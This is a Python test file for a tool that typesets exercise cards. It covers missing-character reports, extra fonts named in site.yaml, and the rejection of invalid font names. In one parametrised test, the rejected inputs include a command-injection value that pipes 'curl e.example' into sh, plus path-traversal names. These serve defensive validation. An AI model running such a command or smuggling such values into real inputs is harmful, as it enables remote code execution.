"""Characters that our type lacks: reported where they are written, or printed in a font that site.yaml names."""

from __future__ import annotations

import io
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import card_corpus
import pytest
import sites
from card_corpus import bare, checked
from conftest import RunCli, Write
from fontTools.ttLib import TTFont
from msgspec.structs import replace
from pypdf import PdfReader

from cuecard.core.diagnostics import InvalidValueError, Problem, Severity, has_errors
from cuecard.media import fonts
from cuecard.media.fonts import Face, further_faces, main_faces, missing
from cuecard.site.cards import typeset

NOTO = "fontpkg-noto-sans"
TITLES = {
    "Greek": "Άσκηση γονάτου",
    "Cyrillic": "Приседание",
    "Hindi": "घुटना",
    "Arabic": "تمرين الركبة",
    "Hebrew": "תרגיל",
    "CJK": "膝を伸ばす",
    "symbols": "Squat ✓",
}
WITH_NOTO = ("Greek", "Cyrillic")


def content(folder: Path, title: str, *names: str, **more: Any) -> Path:
    """Return a project whose exercise has *title* and whose site.yaml names these fonts."""
    listed = f"fonts: [{', '.join(names)}]\n" if names else ""
    files: dict[str, str | bytes] = {
        "site.yaml": f"title: Test\n{listed}",
        "exercises/squat.md": sites.text(sites.exercise(title, **more)),
        "routines/one.md": sites.text({"title": "One", "exercises": ["squat"]}),
    }
    return sites.put(folder / "content", files)


def only_problem(content: Path) -> Problem:
    """Return the one problem of the project."""
    (problem,) = checked(content).problems
    return problem


def noto() -> Path:
    """Return the upright file of the package with a second font."""
    return next(face.file for face in further_faces(NOTO, Path()) if "Italic" not in face.file.name)


def unknown_glyphs(pdf: bytes) -> Iterator[str]:
    """Yield the fonts of the PDF in which a letter is set as glyph 0, the empty box."""
    for page in PdfReader(io.BytesIO(pdf)).pages:
        contents = page.get_contents()
        assert contents is not None
        font = ""
        for operands, operator in contents.operations:
            if operator == b"Tf":
                font = str(operands[0])
            elif operator in {b"Tj", b"TJ"}:
                shown = operands[0] if isinstance(operands[0], list) else [operands[0]]
                for text in shown:
                    data = getattr(text, "original_bytes", b"")
                    if any(data[n : n + 2] == b"\0\0" for n in range(0, len(data), 2)):
                        yield font


# --- reporting -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("script", TITLES)
def test_missing_characters(script: str, tmp_path: Path) -> None:
    """A script that our type lacks is a problem that names the characters, where they are written."""
    problem = only_problem(content(tmp_path, TITLES[script]))
    assert problem.code == "missing-characters"
    assert problem.path.endswith("exercises/squat.md")
    assert problem.excerpt.startswith("title: ")
    assert problem.line == 2
    first = next(char for char in TITLES[script] if missing(char, main_faces()))
    assert f'"{first}" (U+{ord(first):04X})' in problem.message
    assert ("fonts: [fontpkg-noto-sans" if script in WITH_NOTO else "font") in problem.hint


@pytest.mark.parametrize(
    ("key", "value"),
    [("short_steps", ["Lift.", "Stand 膝."]), ("stop_if", ["膝"]), ("equipment", ["膝"])],
)
def test_place_of_a_missing_character(key: str, value: list[str], tmp_path: Path) -> None:
    """The place is the very item of a list that has the character."""
    problems = checked(content(tmp_path, "Squat", **{key: value})).problems
    (problem,) = [one for one in problems if one.code == "missing-characters"] or [problems[0]]
    assert "膝" in problem.excerpt[problem.column - 1 :][: problem.width]


def test_missing_in_site_settings(tmp_path: Path) -> None:
    """A rule of site.yaml that cannot be printed is a problem, too, and names the character."""
    content_folder = content(tmp_path, "Squat")
    sites.put(content_folder, {"site.yaml": "safety: {stop_if: [膝が痛い。]}\n"})
    problem = only_problem(content_folder)
    assert problem.code == "missing-characters"
    assert "U+819D" in problem.message
    assert problem.path.endswith("site.yaml")
    assert problem.excerpt[problem.column - 1] == "膝"


def test_a_hint_names_a_font_that_has_the_character(tmp_path: Path) -> None:
    """A package for the script, a file where none is known, and for an emoji that no card can show it."""
    hints = {char: only_problem(content(tmp_path, f"Squat {char}")).hint for char in "ж🦵→"}
    assert "fontpkg-noto-sans" in hints["ж"]
    assert hints["🦵"] == "leave it out: fonts of cards have no emoji"
    assert ".ttf" in hints["→"]
    assert "fontpkg" not in hints["→"]
    named = only_problem(content(tmp_path, "Squat ا", NOTO))
    assert "fontpkg-noto-sans-arabic" in named.hint


def test_many_missing(tmp_path: Path) -> None:
    """Of many missing characters the first eight are named, and the others counted."""
    problem = only_problem(content(tmp_path, "АБВГДЕЖЗИК"))
    assert '"З" (U+0417) and 2 more' in problem.message


def test_only_cards_need_type(tmp_path: Path) -> None:
    """An exercise that is on no card may be written in any script."""
    content_folder = content(tmp_path, "Squat")
    sites.put(content_folder, {"exercises/knee.md": sites.text(sites.exercise("膝を伸ばす"))})
    assert checked(content_folder).problems == ()


def test_invisible_helpers_are_not_missing() -> None:
    """Spaces, soft hyphens and the joiners of scripts leave no mark, so no font has to have them."""
    assert missing("a\u00a0b\u00adc\u200bd\u200d\u202f\n\t\u2009", main_faces()) == ()
    assert missing("e\u0301 é", main_faces()) == ()


# --- printed in another font --------------------------------------------------------------------------------------


@pytest.mark.parametrize("script", WITH_NOTO)
def test_printed_in_a_package(script: str, tmp_path: Path) -> None:
    """With a package that has the script, the text is on both papers and in large print, without empty boxes."""
    found = checked(content(tmp_path, TITLES[script], NOTO, steps=[TITLES[script] + " " + "Stand."]))
    assert found.problems == ()
    assert found.typesetter
    for kind in typeset.USUAL:
        pdf = found.typesetter.pdf(found.cards[0].card, kind)
        assert "".join(card_corpus.sheets(pdf)).count(bare(TITLES[script])) >= 2
        assert list(unknown_glyphs(pdf)) == []


def test_boxes_would_be_seen(tmp_path: Path) -> None:
    """The check for empty boxes sees one: text that skips our own check of characters is set as glyph 0."""
    found = checked(content(tmp_path, "Squat"))
    assert found.typesetter
    card = found.cards[0].card
    forced = replace(card, title="膝")
    try:
        pdf = found.typesetter.pdf(forced, typeset.Kind(typeset.A4))
    except fonts_refused():
        return  # Typst itself refuses such text in PDF/UA
    assert list(unknown_glyphs(pdf))


def fonts_refused() -> type[Exception]:
    """Return what Typst's refusal becomes."""
    from cuecard.site.render import TemplateError  # noqa: PLC0415

    return TemplateError


def test_font_file_of_the_content(tmp_path: Path) -> None:
    """A font file beside the texts does as well as a package."""
    content_folder = content(tmp_path, TITLES["Greek"], "type/more.ttf")
    sites.put(content_folder, {"type/more.ttf": noto().read_bytes()})
    found = checked(content_folder)
    assert not has_errors(found.problems)
    assert found.typesetter
    pdf = found.typesetter.pdf(found.cards[0].card, typeset.Kind(typeset.A4))
    assert bare(TITLES["Greek"]) in card_corpus.sheets(pdf)[0]
    assert list(unknown_glyphs(pdf)) == []


@pytest.mark.parametrize("name", ["Testtype Light", "Testtype Condensed", "Testtype"])
def test_family_of_a_font_file(name: str, tmp_path: Path) -> None:
    """However a font file calls its family, its letters are found."""
    content_folder = content(tmp_path, TITLES["Cyrillic"], "more.ttf")
    with TTFont(noto()) as font:
        for record in list(font["name"].names):
            if record.nameID in {16, 17, 21, 22, 25}:
                font["name"].removeNames(nameID=record.nameID)
        for record in font["name"].names:
            if record.nameID in {1, 4}:
                record.string = name
        font.save(content_folder / "more.ttf")
    found = checked(content_folder)
    assert not has_errors(found.problems)
    assert found.typesetter
    pdf = found.typesetter.pdf(found.cards[0].card, typeset.Kind(typeset.A4))
    assert bare(TITLES["Cyrillic"]) in card_corpus.sheets(pdf)[0]
    assert list(unknown_glyphs(pdf)) == []


# --- fonts that are not there --------------------------------------------------------------------------------------


def with_torn_characters(font: bytes) -> bytes:
    """Return the font with a table of characters (`cmap`) that leads out of itself."""
    entry = font.index(b"cmap")
    start = int.from_bytes(font[entry + 8 : entry + 12], "big")
    return font[: start + 4] + b"\xff" * 196 + font[start + 200 :]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("fontpkg-no-such-type", 'the font package "fontpkg-no-such-type" is not installed'),
        ("no.ttf", 'there is no font file "no.ttf" in the content folder'),
        ("../outside.ttf", 'there is no font file "../outside.ttf" in the content folder'),
        ("broken.ttf", '"broken.ttf" cannot be read as a font'),
        ("empty.otf", '"empty.otf" cannot be read as a font'),
        ("exercises/squat.md", '"exercises/squat.md" cannot be read as a font'),
        ("exercises", 'there is no font file "exercises" in the content folder'),
        ("fontpkg-", '"fontpkg-" is not a valid font package name'),
        ("fontpkg-../../os", '"fontpkg-../../os" is not a valid font package name'),
        ("fontpkg-noto-sans.files", '"fontpkg-noto-sans.files" is not a valid font package name'),
        ("fontpkg-noto_sans", '"fontpkg-noto_sans" is not a valid font package name'),
        ("torn.ttf", '"torn.ttf" cannot be read as a font'),
        (
            "fontpkg-x; curl e.example | sh",
            '"fontpkg-x; curl e.example | sh" is not a valid font package name',
        ),
        ("a" * 300 + ".ttf", "there is no font file"),
    ],
)
def test_no_such_font(name: str, message: str, project: Path, write: Write, run_cli: RunCli) -> None:
    """A font that is not there or no font is a problem at its name in site.yaml."""
    settings = (project / "content/site.yaml").read_text("utf-8")
    write("content/site.yaml", f"{settings}fonts:\n  - {name}\n")
    write("content/broken.ttf", noto().read_bytes()[:300])
    write("content/empty.otf", b"")
    write("content/torn.ttf", with_torn_characters(noto().read_bytes()))
    write("outside.ttf", noto().read_bytes())
    outcome = run_cli("check")
    assert outcome.code == 1
    assert f"error[no-font]: {message}" in outcome.err
    assert f"- {name[:40]}" in outcome.err
    assert "pip install" not in outcome.err


def test_a_font_package_runs_no_code(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What content names is read as data: its files are found, and its program is never started."""
    package = tmp_path / "fontpkg_of_a_stranger"
    (package / "files").mkdir(parents=True)
    (package / "__init__.py").write_text("raise SystemExit('this ran')", encoding="utf-8")
    (package / "files/face.ttf").write_bytes(noto().read_bytes())
    monkeypatch.syspath_prepend(str(tmp_path))
    (face,) = further_faces("fontpkg-of-a-stranger", tmp_path)
    assert face.file == package / "files/face.ttf"
    assert "fontpkg_of_a_stranger" not in sys.modules


def test_a_cut_off_font(tmp_path: Path) -> None:
    """A font file whose tables are cut off is a problem, not a crash."""
    whole = noto().read_bytes()
    for part in (2, 3, 10, 100):
        content_folder = content(tmp_path / str(part), TITLES["Greek"], "cut.ttf")
        sites.put(content_folder, {"cut.ttf": whole[: len(whole) // part]})
        codes = [
            problem.code for problem in checked(content_folder).problems if problem.severity is Severity.ERROR
        ]
        assert codes == ["no-font"]


def test_no_absolute_path(tmp_path: Path) -> None:
    """An absolute path is outside of the content folder, too."""
    with pytest.raises(InvalidValueError, match="there is no font file"):
        further_faces(str(noto()), tmp_path)


def test_main_faces() -> None:
    """Our own type is four faces of one family, and is cut to a small file for the web."""
    faces = main_faces()
    assert [face.family for face in faces] == [fonts.FAMILY] * 4
    assert all(face.file.is_file() for face in faces)
    packed = fonts.woff2("Regular")
    assert packed[:4] == b"wOF2"
    assert len(packed) < 20_000
    assert missing("Dose: 3 × 10 – “Übung”, čeština, 5°", [Face("", faces[-1].file)]) == ()
